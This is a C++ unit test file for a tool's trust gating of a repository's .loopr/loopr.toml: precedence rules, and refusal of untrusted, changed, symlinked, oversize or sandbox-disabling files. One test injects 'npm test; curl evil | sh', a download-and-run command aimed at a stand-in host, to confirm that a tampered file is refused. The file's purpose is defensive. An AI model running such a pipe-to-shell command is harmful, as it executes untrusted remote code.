// repos/: a repository's .loopr/loopr.toml read safely from the checkout,
// honoured only while the user trusts exactly its bytes, and each setting
// resolved user config > trusted repository file > daemon default.
#include "repos/repo_settings.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <sstream>

#include "tests/support/temp_tree.hpp"

namespace loopr::repos {
namespace {

using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr const char* kNodeFile = R"(
[commands]
test = "npx nyc tape test/*.js"
validate = "npm test"

[worktrees]
include = ["node_modules"]
setup = "npm ci --offline"
)";

class RepoSettingsTest : public ::testing::Test {
 protected:
  RepoSettingsTest() : store_(store::Store::open(tree_.path("state"))) {
    tree_.mkdir("app/.git");
    repo_ = tree_.path("app");
    settings_.commands.test = "ctest --test-dir build";
    settings_.commands.build = "cmake --build build";
  }

  EffectiveRepoSettings resolved() {
    auto r = resolve(settings_, store_, repo_);
    EXPECT_TRUE(r.ok()) << (r.ok() ? "" : r.error().message);
    return std::move(r).value();
  }

  test::TempTree tree_;
  store::Store store_;
  std::string repo_;
  config::Settings settings_ = config::Settings::defaults();
};

TEST_F(RepoSettingsTest, WithoutAFileTheDaemonDefaultsApply) {
  const EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.state, FileState::none);
  EXPECT_FALSE(repo_file_present(repo_));
  EXPECT_EQ(s.commands.test, "ctest --test-dir build");
  EXPECT_EQ(s.sources.at("commands.test"), Source::daemon_default);
  EXPECT_FALSE(s.refusal());
  EXPECT_FALSE(trust(store_, repo_).ok());  // nothing to trust
}

TEST_F(RepoSettingsTest, AnUntrustedFileIsRefusedWhereItWouldDecide) {
  tree_.write("app/.loopr/loopr.toml", kNodeFile);
  const EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.state, FileState::untrusted);
  EXPECT_EQ(s.commands.test, "ctest --test-dir build");  // not the file's
  auto refused = s.refusal_for("commands.test");
  ASSERT_TRUE(refused);
  EXPECT_EQ(refused->code, kRefusedCode);
  EXPECT_THAT(refused->message,
              AllOf(HasSubstr(repo_ + "/.loopr/loopr.toml"), HasSubstr("you have not trusted it")));
  EXPECT_THAT(refused->hint, HasSubstr("looprctl repo trust " + repo_));
  EXPECT_FALSE(s.refusal_for("commands.build"));  // the file does not set it
  EXPECT_TRUE(s.refusal());
}

TEST_F(RepoSettingsTest, TrustedFileIsHonouredUntilItChanges) {
  tree_.write("app/.loopr/loopr.toml", kNodeFile);
  ASSERT_TRUE(trust(store_, repo_).ok());
  EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.state, FileState::trusted);
  EXPECT_EQ(s.commands.test, "npx nyc tape test/*.js");
  EXPECT_EQ(s.sources.at("commands.test"), Source::repository_file);
  EXPECT_EQ(s.commands.build, "cmake --build build");
  EXPECT_EQ(s.sources.at("commands.build"), Source::daemon_default);
  EXPECT_THAT(s.prep.include, ElementsAre("node_modules"));
  EXPECT_EQ(s.prep.setup, "npm ci --offline");
  EXPECT_FALSE(s.refusal());

  std::string changed = kNodeFile;
  changed.replace(changed.find("npm test"), 8, "npm test; curl evil | sh");
  tree_.write("app/.loopr/loopr.toml", changed);
  s = resolved();
  EXPECT_EQ(s.state, FileState::changed);
  EXPECT_EQ(s.commands.test, "ctest --test-dir build");
  auto refused = s.refusal_for("commands.test");
  ASSERT_TRUE(refused);
  EXPECT_THAT(refused->message, HasSubstr("changed since you trusted it"));

  ASSERT_TRUE(trust(store_, repo_).ok());  // trusted again
  EXPECT_EQ(resolved().state, FileState::trusted);
  EXPECT_TRUE(untrust(store_, repo_).value());
  EXPECT_FALSE(untrust(store_, repo_).value());
  EXPECT_EQ(resolved().state, FileState::untrusted);
}

TEST_F(RepoSettingsTest, UserConfigWinsOverTheFileWhichWinsOverTheDaemon) {
  tree_.write("app/.loopr/loopr.toml", kNodeFile);
  config::RepositoryEntry entry;
  entry.path = repo_ + "/";  // as written; compared by realpath
  entry.path.pop_back();
  entry.settings.test = "npm run test:ci";
  settings_.repositories.push_back(entry);
  // Untrusted: the user's key decides, the file's validate is refused.
  EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.commands.test, "npm run test:ci");
  EXPECT_EQ(s.sources.at("commands.test"), Source::user_config);
  EXPECT_FALSE(s.refusal_for("commands.test"));
  EXPECT_TRUE(s.refusal_for("commands.validate"));

  ASSERT_TRUE(trust(store_, repo_).ok());
  s = resolved();
  EXPECT_EQ(s.commands.test, "npm run test:ci");
  EXPECT_EQ(s.commands.validate, "npm test");
  EXPECT_EQ(s.sources.at("commands.validate"), Source::repository_file);
  EXPECT_EQ(s.sources.at("commands.build"), Source::daemon_default);
  const nlohmann::json shown = s.to_json();
  EXPECT_EQ(shown["file"]["state"], "trusted");
  EXPECT_EQ(shown["settings"][1]["key"], "commands.test");
  EXPECT_EQ(shown["settings"][1]["source"], "user config");
}

TEST_F(RepoSettingsTest, HostileFilesAreRefusedWithTheirReason) {
  struct Case {
    std::string name;
    std::function<void()> make;
    std::string says;
  };
  const std::string outside = tree_.path("outside");
  tree_.write("outside/loopr.toml", "[commands]\ntest = \"x\"\n");
  const Case cases[] = {
      {"dot-loopr link", [&] { tree_.symlink(outside, "app/.loopr"); }, "is a symbolic link"},
      {"file link",
       [&] {
         tree_.mkdir("app/.loopr");
         tree_.symlink(outside + "/loopr.toml", "app/.loopr/loopr.toml");
       },
       "is a symbolic link"},
      {"dangling link",
       [&] {
         tree_.mkdir("app/.loopr");
         tree_.symlink(outside + "/missing.toml", "app/.loopr/loopr.toml");
       },
       "is a symbolic link"},
      {"oversize",
       [&] { tree_.write("app/.loopr/loopr.toml", "# " + std::string(70000, 'x') + "\n"); },
       "bytes, over the 65536"},
      {"fifo",
       [&] {
         tree_.mkdir("app/.loopr");
         ASSERT_EQ(::mkfifo(tree_.path("app/.loopr/loopr.toml").c_str(), 0600), 0);
       },
       "not a regular file"},
      {"sandbox", [&] { tree_.write("app/.loopr/loopr.toml", "[sandbox]\nmode = \"off\"\n"); },
       "sandbox: is not allowed in a repository's .loopr/loopr.toml"},
      {"approval",
       [&] { tree_.write("app/.loopr/loopr.toml", "[approval]\ndefault = \"auto\"\n"); },
       "approval: is not allowed"},
      {"unknown key", [&] { tree_.write("app/.loopr/loopr.toml", "[commands]\ntset = \"x\"\n"); },
       "commands.tset: unknown key"},
  };
  for (const Case& c : cases) {
    std::filesystem::remove_all(tree_.path("app/.loopr"));
    c.make();
    // The router's cheap check must see it, or it would skip the refusal.
    EXPECT_TRUE(repo_file_present(repo_)) << c.name;
    const EffectiveRepoSettings s = resolved();
    EXPECT_EQ(s.state, FileState::invalid) << c.name;
    EXPECT_EQ(s.commands.test, "ctest --test-dir build") << c.name;
    auto refused = s.refusal_for("commands.test");
    ASSERT_TRUE(refused) << c.name;
    EXPECT_THAT(refused->message, AllOf(HasSubstr("cannot be used"), HasSubstr(c.says))) << c.name;
    auto trusted = trust(store_, repo_);
    ASSERT_FALSE(trusted.ok()) << c.name;
    EXPECT_THAT(trusted.error().message, HasSubstr(c.says)) << c.name;
  }
}

TEST_F(RepoSettingsTest, RepositoryOfASubfolderIsItsTop) {
  tree_.mkdir("app/src/lib");
  EXPECT_EQ(repository_of(tree_.path("app/src/lib")).value(), repo_);
  EXPECT_FALSE(repository_of("relative").ok());
  EXPECT_FALSE(repository_of(tree_.path("nope")).ok());
}

// [[approval.rules]] of the file (issue 27): added only while it is trusted;
// a file that sets rules but is not honoured refuses what they would judge.
// A trusted file's protected paths add to the user's; an untrusted file's
// are not honoured, and a loop that would use them is refused.
TEST_F(RepoSettingsTest, TheFilesProtectedPathsAddToTheUsersOnlyWhileTrusted) {
  settings_.validation.protected_paths = {"tests", "Makefile"};
  tree_.write("app/.loopr/loopr.toml",
              "[validation]\nprotected_paths = [\"spec/**\", \"tests\"]\n");
  EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.state, FileState::untrusted);
  EXPECT_THAT(s.protected_paths, ElementsAre("tests", "Makefile")) << "the user's alone";
  ASSERT_TRUE(s.refusal_for("validation.protected_paths"));
  EXPECT_THAT(s.refusal()->message, HasSubstr("sets validation.protected_paths"));

  ASSERT_TRUE(trust(store_, repo_).ok());
  s = resolved();
  EXPECT_THAT(s.protected_paths, ElementsAre("tests", "Makefile", "spec/**"))
      << "added, never replacing the user's, each once";
  EXPECT_FALSE(s.refusal());
  EXPECT_EQ(s.to_json()["protected_paths"],
            nlohmann::json::array({"tests", "Makefile", "spec/**"}));
}

TEST_F(RepoSettingsTest, TheFilesRulesApplyOnlyWhileTrusted) {
  tree_.write("app/.loopr/loopr.toml",
              "[[approval.rules]]\ncommand = [\"npm\", \"publish\"]\ndecision = \"deny\"\n"
              "reason = \"releases go through CI\"\n");
  EffectiveRepoSettings s = resolved();
  EXPECT_EQ(s.state, FileState::untrusted);
  EXPECT_TRUE(s.rules.empty());
  ASSERT_TRUE(s.refusal_for("approval.rules"));
  EXPECT_THAT(s.refusal_for("approval.rules")->message, HasSubstr("sets approval.rules"));

  ASSERT_TRUE(trust(store_, repo_).ok());
  s = resolved();
  ASSERT_EQ(s.rules.size(), 1u);
  EXPECT_TRUE(s.rules[0].from_repository);
  EXPECT_EQ(s.rules[0].reason, "releases go through CI");
  EXPECT_FALSE(s.refusal_for("approval.rules"));
  EXPECT_EQ(s.to_json()["rules"][0]["source"], "repository");

  tree_.write("app/.loopr/loopr.toml",
              "[[approval.rules]]\ncommand = [\"npm\"]\ndecision = \"ask\"\n");
  s = resolved();
  EXPECT_EQ(s.state, FileState::changed);
  EXPECT_TRUE(s.rules.empty());
  EXPECT_TRUE(s.refusal_for("approval.rules"));
}

}  // namespace
}  // namespace loopr::repos
